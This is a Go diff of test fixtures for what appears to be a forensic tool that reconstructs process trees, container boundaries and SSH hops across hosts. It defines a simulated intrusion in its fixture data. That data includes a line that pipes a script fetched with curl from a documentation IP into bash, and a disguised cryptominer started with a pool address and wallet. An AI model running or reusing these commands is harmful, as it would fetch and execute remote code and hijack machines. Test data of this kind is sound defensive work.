@@ -58,6 +58,11 @@ func webServer() *Document {
 			{Source{"case/web01/audit.log.1.gz", 5_000_000, 48_213}, "record without a message id", 0},
 			{Source{"case/web01/audit.log.1.gz", 5_000_120, 48_214}, "record without a message id", 0},
 		},
+		Crossings: []Crossing{{
+			From:  End{ID: 61, Host: "web01", Name: "ssh", PID: 4140, CommandLine: "ssh root@db01", Start: at("14:05:00"), Source: Source{"case/web01/audit.log", 900, 50_000}},
+			To:    End{ID: 90, Host: "db01", Name: "sshd", PID: 77, Start: at("14:05:01"), Source: Source{"case/web01/audit.log", 1200, 310}},
+			Entry: "ssh", Rule: "the command names the second host, just before", Confidence: 0.85, Address: "203.0.113.10",
+		}},
 		FindingsOmitted: 238,
 		WarningsOmitted: 9,
 	}
@@ -84,6 +89,12 @@ func minerFinding() Finding {
 	}
 	hops[0].User, hops[1].User = "0", "0"
 	hops[2].Rule, hops[2].CommandLine, hops[2].Standing = "service worker: same user and image as the service's start", "", "seen"
+	hops[3].Logical = &Logical{
+		ID: 17, Name: "docker", Image: "/usr/bin/docker", PID: 4100, CommandLine: "docker exec web sh", Start: at("14:02:10"),
+		Rule: "its command line holds the command that was started", Confidence: 0.95, Source: Source{"case/web01/audit.log", 800, 49_000},
+	}
+	hops[3].Boundary, hops[3].Container, hops[3].Leads = &Boundary{ID: strings.Repeat("4f66", 16), Runtime: "runc", Rule: "started by a container runtime"}, strings.Repeat("4f66", 16), true
+	hops[5].Lineage = strings.Repeat("c0ffee11", 8)
 	hops[5].Deleted, hops[5].SameProcess, hops[5].AuditUser, hops[5].Session, hops[5].TTY = true, true, "1000", "12", "pts0"
 	return Finding{
 		Rank: 1, Score: 0.998, OwnScore: 0.998, Network: 0.99, Rarity: 0.97,
@@ -179,11 +190,18 @@ func forestDocument() *Document {
 	sh := add(worker, "web01", "/usr/bin/dash", "33", "sh -c 'curl -s http://203.0.113.9/x.sh | bash >/dev/null 2>&1 &'", "14:02:11", "pid", 0.998)
 	miner := add(sh, "web01", "/tmp/.x/kdevtmpfsi", "33", "/tmp/.x/kdevtmpfsi -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DsMTmQ -k", "14:02:14.2", "observed", 0.998)
 	d.Forest.Nodes[miner].SameProcess = true
+	d.Forest.Nodes[sh].Logical = &Logical{ID: cron, Name: "systemctl", PID: 4400, Rule: "it asks for a unit of that name just before", Confidence: 0.7}
+	d.Forest.Nodes[sh].Boundary, d.Forest.Nodes[sh].Container = &Boundary{ID: "web", Runtime: "runc", Rule: "started by a container runtime"}, "web"
 	deep := add(-1, "web01", "/usr/bin/su", "1000", "su -", "15:00:00", "orphan", 0.2)
 	for range 39 {
 		deep = add(deep, "web01", "/usr/bin/bash", "1000", "bash -c 'exec bash'", "15:00:00", "observed", 0.2)
 	}
 	explorer := add(-1, "ANN-PC", `C:\Windows\explorer.exe`, `CORP\ann.with.a.long.name`, `C:\Windows\Explorer.EXE`, "09:00:00", "orphan", 0)
+	d.Forest.Nodes[explorer].Leads, d.Forest.Nodes[explorer].Entry = true, "login"
+	d.Crossings = []Crossing{{
+		From: End{ID: explorer, Host: "ANN-PC", Name: "explorer.exe", PID: d.Forest.Nodes[explorer].PID}, To: End{ID: deep - 39, Host: "web01", Name: "su"},
+		Entry: "ssh", Rule: "the command names the second host, just before", Confidence: 0.85, Address: "192.0.2.9",
+	}}
 	add(explorer, "ANN-PC", `C:\Windows\System32\cmd.exe`, `CORP\ann.with.a.long.name`, `cmd /c "echo 日本語のとても長い名前のファイル.txt 日本語のとても長い名前のファイル.txt"`, "09:10:00", "guid", 0)
 	return d
 }
